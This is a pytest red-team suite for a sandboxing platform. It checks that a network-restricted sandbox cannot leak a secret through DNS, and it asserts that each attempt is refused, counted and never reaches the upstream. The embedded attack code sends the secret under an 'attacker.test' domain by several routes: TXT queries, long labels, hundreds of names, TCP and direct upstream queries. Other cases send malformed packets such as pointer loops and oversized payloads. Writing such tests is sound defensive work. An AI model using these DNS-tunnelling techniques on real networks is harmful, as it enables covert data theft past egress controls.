# Red team, DNS tunnelling (issue 29): a sandbox allowed only the "pypi"
# source tries to carry data out through names it looks up, through the
# node's resolver (TXT queries, labels of 63 bytes, hundreds of distinct
# names, names under the allowed one, TCP) and around it (straight to the
# upstream). Every attempt must be REFUSED or refused at connect, counted as
# a network denial, and never reach the upstream (dnsmasq's query log), and
# malformed packets (garbage, pointer loops, oversized) must be dropped
# without harming the node, a neighbour or the host.
#
# What the platform cannot stop here: the query TYPE, ID and letter case of
# an ALLOWED name still reach the upstream (a few bits per lookup), and a
# mirror that proxies arbitrary hosts (a Go module proxy fetching GitHub)
# serves whatever it proxies: rules name the mirror, not what it fetches.
import os
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "pylib"))

from dsec_harness import Node, _finish_node  # noqa: E402
from egress_peer import MirrorPeer, nameserver  # noqa: E402

from .redteam import PYTHON, attack  # noqa: E402

SECRET = "exfil7q2x"

DNS = r"""
import random, socket, struct
def query(name, qtype=1, raw_labels=None):
    q = struct.pack(">HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
    for l in (raw_labels or name.split(".")):
        q += bytes([len(l)]) + l.encode()
    return q + b"\0" + struct.pack(">HH", qtype, 1)
def ask(ns, pkt, tcp=False):
    try:
        if tcp:
            s = socket.create_connection((ns, 53), timeout=3)
            s.sendall(struct.pack(">H", len(pkt)) + pkt)
            d = s.recv(2); n = struct.unpack(">H", d)[0]; a = s.recv(n)
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
            s.sendto(pkt, (ns, 53)); a = s.recv(65535)
        return "rcode:%d" % (a[3] & 15)
    except socket.timeout:
        return "timeout"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
"""


@pytest.fixture(scope="module")
def peer():
    p = MirrorPeer()
    yield p
    p.close()


@pytest.fixture(scope="module")
def node(dsec_bin, store, peer):
    path = peer.sources(os.path.join(peer.dir, "sources.json"))
    n = Node(dsec_bin, store, node_id="redteam-dns-" + str(os.getpid() % 10000),
             extra_args=["--egress-sources", path, "--dns-upstream", peer.upstream]).start()
    yield n
    _finish_node(n)


@pytest.fixture
def allowed(client):
    return client.create_ok([PYTHON], memory_mb=256, network={"allow": ["pypi"]})


def leaked(peer):
    return [q for q in peer.queries() if SECRET in q]


def test_txt_long_labels_and_many_names_are_refused(client, allowed, peer, unharmed):
    ns = nameserver(client, allowed)
    got = attack(client, allowed, DNS + f"""
ns = {ns!r}
secret = {SECRET!r}
res = {{}}
res["txt"] = ask(ns, query(secret + ".attacker.test", 16))
res["txt_under_allowed"] = ask(ns, query(secret + ".pypi.mirror.test", 16))
labels = [secret + "a" * (63 - len(secret))] * 3 + ["attacker", "test"]
res["long_labels"] = ask(ns, query("", 1, labels))
res["tcp"] = ask(ns, query(secret + ".tcp.attacker.test", 16), tcp=True)
many = [ask(ns, query("%s%04d.attacker.test" % (secret, i), 1)) for i in range(200)]
res["many"] = sorted(set(many))
# Around the resolver: straight to the upstream, UDP and TCP.
res["direct_udp"] = ask({peer.pypi!r}, query(secret + ".direct.test", 16))
res["direct_tcp"] = ask({peer.pypi!r}, query(secret + ".direct.test", 16), tcp=True)
# The allowed name itself still resolves.
res["allowed"] = ask(ns, query("pypi.mirror.test", 1))
out(res)
""", timeout_s=180)
    assert got["txt"] == "rcode:5", got
    assert got["txt_under_allowed"] == "rcode:5", got
    assert got["long_labels"] == "rcode:5", got
    assert got["tcp"] == "rcode:5", got
    assert got["many"] == ["rcode:5"], got
    assert got["direct_udp"] == "EPERM" and got["direct_tcp"] == "EPERM", got
    assert got["allowed"] == "rcode:0", got
    assert leaked(peer) == [], leaked(peer)
    status, info = client.get(allowed)
    d = info["denials"]
    # 4 + 200 refused lookups and 2 refused sends/connects, all counted
    assert d["network"] >= 206, d
    assert any(r.startswith("dns " + SECRET) for r in d["recent"]), d
    unharmed()


def dns_dropped(client):
    """The node's count of dropped sandbox DNS packets (/metrics)."""
    status, _, body = client.raw("GET", "/metrics")
    assert status == 200, body
    line = [x for x in body.decode().splitlines() if x.startswith("dsec_dns_dropped_total{")]
    assert len(line) == 1, body[-2000:]
    return int(line[0].rsplit(" ", 1)[1])


def test_malformed_packets_are_dropped(client, allowed, peer, unharmed):
    ns = nameserver(client, allowed)
    dropped = dns_dropped(client)
    got = attack(client, allowed, DNS + f"""
ns = {ns!r}
res = {{}}
res["garbage"] = ask(ns, b"\\x13\\x37" + bytes(range(256)) * 2)
loop = struct.pack(">HHHHHH", 1, 0x0100, 1, 0, 0, 0) + b"\\xc0\\x0c" + struct.pack(">HH", 1, 1)
res["pointer_loop"] = ask(ns, loop)
res["oversized"] = ask(ns, query("pypi.mirror.test") + b"\\0" * 5000)
res["short"] = ask(ns, b"\\x00\\x01\\x01")
res["two_questions"] = ask(ns, struct.pack(">HHHHHH", 2, 0x0100, 2, 0, 0, 0)
                           + query("pypi.mirror.test")[12:] + query({SECRET!r} + ".x.test")[12:])
res["after"] = ask(ns, query("pypi.mirror.test"))
out(res)
""", timeout_s=120)
    for k in ("garbage", "pointer_loop", "oversized", "short", "two_questions"):
        assert got[k] == "timeout", got
    assert got["after"] == "rcode:0", got
    assert dns_dropped(client) >= dropped + 4  # counted, not only ignored
    assert leaked(peer) == [], leaked(peer)
    unharmed()
